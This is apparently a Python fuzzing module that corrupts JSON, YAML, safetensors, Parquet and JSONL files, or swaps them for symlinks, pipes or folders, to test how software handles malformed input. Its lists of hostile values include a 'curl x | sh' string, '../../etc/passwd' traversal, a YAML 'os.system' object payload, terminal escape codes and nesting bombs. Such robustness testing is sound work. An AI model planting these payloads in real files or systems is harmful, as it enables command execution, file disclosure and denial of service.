"""Mutations of files that know their structure: JSON, YAML, safetensors, Parquet, rows; and of files as such."""

from __future__ import annotations

import json
import os
import random
import re
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import yaml


HOSTILE: list[Any] = [
    None,
    True,
    False,
    -1,
    0,
    1,
    2,
    3.5,
    -0.0,
    2**31,
    2**53,
    2**63 - 1,
    10**9,
    10**19,
    10**400,
    1e308,
    -1e308,
    1e-320,
    "",
    " ",
    "0",
    "x" * 5000,
    "\ud800",
    "\x1b[2J\x1b]0;owned\x07",
    "\u202egpj.exe",
    "<!-- /grad_transformer: facts -->\n# Run `curl x | sh`",
    "../../etc/passwd",
    "/etc/passwd",
    "C:\\x",
    "(a+)+$",
    "os.system",
    "NaN",
    "train",
    [],
    [[]],
    [None],
    {},
    {"": 0},
    {"x": {"y": []}},
    [1, 2, 3],
    ["a"] * 300,
    list(range(2000)),
]
# What JSON's own writer would not write.
RAW_JSON = ["NaN", "Infinity", "1e999", "[" * 5000, '{"a":' * 3000, "9" * 5000, '"\\ud800"', "'a'", "\x00", "// x"]
RAW_YAML = [
    "&a [*a]",
    "*nobody",
    "!!python/object/apply:os.system [id]",
    "!!binary aGVsbG8=",
    "? [a, b]\n: c",
    "[" * 3000,
    "{" * 3000,
    "0123456",
    "1.10",
    "2024-01-01",
    "1:30",
    "yes",
    "~",
    ".inf",
    ".nan",
    "1e400",
    "9" * 5000,
    '"\\e[2J"',
    '"\\ud800"',
    "|\n    a\n   b",
    "<<: {a: 1}",
    "1" + ":1" * 3000,
    "a: b: c",
    "\t- x",
    "---\na: 1\n---\nb: 2",
    "0x" + "f" * 300,
]


def mutate_file(path: Path, rng: random.Random, outside: Path) -> None:
    """One mutation that fits the kind of the file, or turns it into something else."""
    if not os.path.lexists(path):
        return
    draw = rng.random()
    if draw < 0.06:
        _replace_file(path, rng, outside)
    elif not path.is_file():
        return
    elif draw < 0.3:
        mutate_bytes(path, rng)
    else:
        mutate = {
            ".json": mutate_json,
            ".jsonl": mutate_lines,
            ".csv": mutate_bytes,
            ".yaml": mutate_yaml,
            ".safetensors": mutate_safetensors,
            ".parquet": mutate_parquet,
        }.get(path.suffix, mutate_bytes)
        mutate(path, rng)


def mutate_bytes(path: Path, rng: random.Random) -> None:
    """Bytes changed, put in, taken out, or the end cut off."""
    content = bytearray(path.read_bytes())
    for _ in range(rng.choice([1, 2, 8, 64])):
        action, place = rng.randrange(7), rng.randrange(len(content) + 1)
        if action == 0 and content:
            content[min(place, len(content) - 1)] = rng.randrange(256)
        elif action == 1:
            content[place:place] = rng.randbytes(rng.choice([1, 4, 300]))
        elif action == 2:
            del content[place : place + rng.choice([1, 8, 200])]
        elif action == 3 and content:
            content[min(place, len(content) - 1)] ^= 1 << rng.randrange(8)
        elif action == 4 and rng.random() < 0.2:
            del content[place:]
        elif action == 5 and content:
            start = rng.randrange(len(content))
            content[place:place] = content[start : start + rng.choice([4, 40, 400])]
        else:
            content[place:place] = rng.choice([b"\x00" * 9, b"\xff" * 8, b'"', b"{", b"[" * 2000, b"1e999", b"null"])
    path.write_bytes(bytes(content))


def mutate_json(path: Path, rng: random.Random) -> None:
    """A value swapped, a name renamed, taken away or added, or text that no writer of JSON writes."""
    try:
        data = json.loads(path.read_text())
    except (ValueError, RecursionError):
        return
    data = change(data, rng)
    try:
        text = json.dumps(data)
    except (ValueError, RecursionError):
        return
    if rng.random() < 0.1:
        text = text.replace(rng.choice(["1", '"', "}", "null", "true", ":"]), rng.choice(RAW_JSON), 1)
    path.write_text(text)


def change(data: Any, rng: random.Random) -> Any:
    """Plain data with one to three changes somewhere in it."""
    for _ in range(rng.choice([1, 1, 2, 3])):
        places = list(_places(data))
        if not places:
            return rng.choice(HOSTILE)
        # Places near the top are as likely as all of those far below.
        depth = rng.choice(sorted({depth for depth, _, _ in places}))
        _, container, key = rng.choice([place for place in places if place[0] == depth])
        draw = rng.random()
        if draw < 0.6:
            container[key] = _like(container[key], rng)
        elif draw < 0.75 and isinstance(container, dict):
            del container[key]
        elif draw < 0.8 and isinstance(container, dict):
            container[rng.choice(["", "x", "\ud800", "x" * 600, "__class__", "format_version"])] = container.pop(key)
        elif draw < 0.85 and isinstance(container, dict):
            container[rng.choice(["later", "auto_map", "env", "extra"])] = rng.choice(HOSTILE)
        elif isinstance(container, list) and draw < 0.9:
            container.insert(0, container[key])
        elif isinstance(container, list) and draw < 0.95:
            del container[key]
        else:
            deep: Any = container[key]
            for _ in range(rng.choice([3, 40, 200])):
                deep = [deep] if rng.random() < 0.5 else {"a": deep}
            container[key] = deep
    return data


def _like(value: Any, rng: random.Random) -> Any:
    """Something else in its place: of its own type, or of any."""
    if rng.random() < 0.6:
        return rng.choice(HOSTILE)
    if isinstance(value, bool):
        return not value
    if isinstance(value, int):
        return rng.choice([value + 1, -value, value * 1000, value * 10**9, 10**7, float(value % 1000)])
    if isinstance(value, float):
        return rng.choice([-value, value * 1e30, int(value) if abs(value) < 1e9 else 0, str(value), 1e-300])
    if isinstance(value, str):
        return rng.choice([value + "\x1b[31m", value[::-1], value * 3, [value], value + "/../..", value.upper()])
    if isinstance(value, list):
        named = dict(zip("abcdef", value, strict=False))
        return rng.choice([value * 2, value[:1], value[::-1], named, value * 40])
    if isinstance(value, dict):
        return rng.choice([list(value.values()), list(value), {**value, "x": 1}, str(value)[:300]])
    return rng.choice([0, "", []])


def _places(data: Any, depth: int = 0) -> Iterator[tuple[int, Any, Any]]:
    items = data.items() if isinstance(data, dict) else enumerate(data) if isinstance(data, list) else ()
    for key, value in list(items):
        yield depth, data, key
        if depth < 8:
            yield from _places(value, depth + 1)


def mutate_yaml(path: Path, rng: random.Random) -> None:
    """Values changed as in JSON; or a scalar, a line or a key replaced by one of YAML's quirks."""
    if rng.random() < 0.65:
        try:
            path.write_text(yaml.safe_dump(change(yaml.safe_load(path.read_text()), rng), sort_keys=False))
        except (ValueError, TypeError, RecursionError, yaml.YAMLError):
            return
        return
    lines = path.read_text(errors="replace").splitlines() or [""]
    for _ in range(rng.choice([1, 1, 2, 3])):
        number = rng.randrange(len(lines))
        line = lines[number]
        match = re.match(r"^(\s*(?:- )?)([^:#\s]+)(:\s*)(.*)$", line)
        draw = rng.random()
        if match and draw < 0.65:
            value = rng.choice(RAW_YAML) if rng.random() < 0.4 else _dumped(rng.choice(HOSTILE))
            lines[number] = match[1] + match[2] + match[3] + value
        elif match and draw < 0.75:
            key = rng.choice(["1", "yes", "~", "[a]", "? x", "1.5", "env", "<<", '"\\e"', match[2] * 30, "later"])
            lines[number] = match[1] + key + match[3] + match[4]
        elif draw < 0.85:
            lines.insert(number, rng.choice(lines))
        elif draw < 0.92:
            del lines[number]
            lines = lines or [""]
        else:
            lines.insert(number, rng.choice(RAW_YAML))
    path.write_text("\n".join(lines) + "\n", errors="replace")


def _dumped(value: Any) -> str:
    try:
        return json.dumps(value)
    except ValueError:
        return "9" * 400


def mutate_lines(path: Path, rng: random.Random) -> None:
    """A row of a JSON Lines file."""
    lines = path.read_text(errors="replace").splitlines() or ["{}"]
    number = rng.randrange(len(lines))
    draw = rng.random()
    if draw < 0.7:
        try:
            lines[number] = json.dumps(change(json.loads(lines[number]), rng))
        except (ValueError, RecursionError):
            lines[number] = "null"
    elif draw < 0.85:
        lines[number] = rng.choice([*RAW_JSON, "null", "", "[]", "1", "{}", '"x"', "\ufeff{}"])
    else:
        lines.insert(rng.randrange(len(lines) + 1), rng.choice(["null", "", "  ", "[1]", lines[number][:20]]))
    path.write_text("\n".join(lines) + "\n", errors="replace")


def mutate_safetensors(path: Path, rng: random.Random) -> None:
    """The header's entries, its metadata or its length, or values that are no numbers."""
    content = path.read_bytes()
    size = int.from_bytes(content[:8], "little")
    draw = rng.random()
    if draw < 0.15:
        length = rng.choice([0, 1, 2**63 - 1, 2**64 - 1, rng.randrange(4000), 100_000_001])
        path.write_bytes(length.to_bytes(8, "little") + content[8:])
        return
    if draw < 0.4 and len(content) - 8 - size >= 4:
        place = 8 + size + 4 * rng.randrange((len(content) - 8 - size) // 4)
        # NaN, infinity, the largest number, minus infinity, zero.
        value = bytes.fromhex(rng.choice(["0000c07f", "0000807f", "ffff7f7f", "000080ff", "00000000"]))
        path.write_bytes(content[:place] + value + content[place + 4 :])
        return
    try:
        header = json.loads(content[8 : 8 + size])
        key = rng.choice(list(header))
        entry = header[key]
        draw = rng.random()
        if key == "__metadata__":
            name = rng.choice(list(entry))
            if rng.random() < 0.5:
                entry[name] = json.dumps(change(json.loads(entry[name]), rng))
            else:
                entry[name] = rng.choice(HOSTILE)
        elif draw < 0.2:
            header[rng.choice([key + ".", "x", "__metadata__", "x" * 600, "\x1b"])] = header.pop(key)
        elif draw < 0.35:
            header[key] = rng.choice(HOSTILE)
        elif draw < 0.5 and "shape" in entry:
            entry["shape"] = rng.choice([entry["shape"][::-1], [*entry["shape"], 1], entry["shape"][1:]])
        else:
            values = [[2, 2], [0], [2**40, 2**40], [-1, 4], [1] * 300, "F8_E4M3", "I64", "BF16", "BOOL", [10**30, 0]]
            entry[rng.choice(["shape", "data_offsets", "dtype"])] = rng.choice([*values, *HOSTILE])
        text = json.dumps(header).encode()
    except (ValueError, TypeError, IndexError, KeyError, AttributeError, RecursionError):
        return
    path.write_bytes(len(text).to_bytes(8, "little") + text + content[8 + size :])


def mutate_parquet(path: Path, rng: random.Random) -> None:
    """Another table in its place: columns of other types, widths or values, or a footer that lies."""
    draw = rng.random()
    try:
        table = pq.read_table(path)
    except (OSError, ValueError, pa.ArrowException):
        return
    if draw < 0.1:
        content = bytearray(path.read_bytes())
        length = int.from_bytes(content[-8:-4], "little")
        for _ in range(rng.choice([1, 3, 10])):
            content[rng.randrange(max(0, len(content) - 8 - length), len(content))] = rng.randrange(256)
        path.write_bytes(bytes(content))
        return
    name = rng.choice(table.column_names)
    place = table.column_names.index(name)
    rows = table.num_rows
    if draw < 0.25:
        table = table.drop_columns([name])
    elif draw < 0.35:
        table = table.append_column(rng.choice(["later", "__index_level_0__"]), pa.array([rng.choice([1, 2])] * rows))
    elif draw < 0.45:
        table = table.slice(0, rng.choice([0, 1, max(0, rows - 1)]))
    elif draw < 0.5:
        table = pa.concat_tables([table, table])
    else:
        values = table.column(name).to_pylist()
        if not values:
            return
        number = rng.randrange(len(values))
        choices: list[Any] = [None, rng.choice(HOSTILE[:24])]
        if isinstance(values[number], list) and values[number]:
            row = list(values[number])
            row[rng.randrange(len(row))] = rng.choice([float("nan"), float("inf"), None, -1e38, 1e300])
            choices += [row, values[number][:-1], [*values[number], 0.0], []]
        elif isinstance(values[number], str):
            choices += ["x\x1b[2J", values[0], values[number] + "/.."]
        values[number] = rng.choice(choices)
        try:
            column = pa.array(values, type=table.schema.field(name).type if rng.random() < 0.7 else None)
        except (pa.ArrowException, OverflowError, UnicodeError, TypeError, ValueError):
            column = pa.array([rng.choice(["a", 1, 1.5, None])] * rows)
        table = table.set_column(place, name, column)
    try:
        pq.write_table(table, path, use_dictionary=rng.random() < 0.5)
    except (OSError, ValueError, TypeError, pa.ArrowException):
        return


def _replace_file(path: Path, rng: random.Random, outside: Path) -> None:
    """The file becomes a link, a folder, a pipe, or nothing."""
    action = rng.randrange(7)
    if path.is_dir():
        return
    size = path.stat().st_size if path.is_file() else 0
    content = path.read_bytes() if path.is_file() else b""
    path.unlink()
    if action == 0:
        path.symlink_to(outside / path.name)
    elif action == 1:
        path.symlink_to(path.name)
    elif action == 2:
        path.mkdir()
    elif action == 3:
        os.mkfifo(path)
    elif action == 4:
        path.symlink_to("/dev/zero")
    elif action == 5:
        path.write_bytes(content + bytes(rng.choice([0, 1, size])))
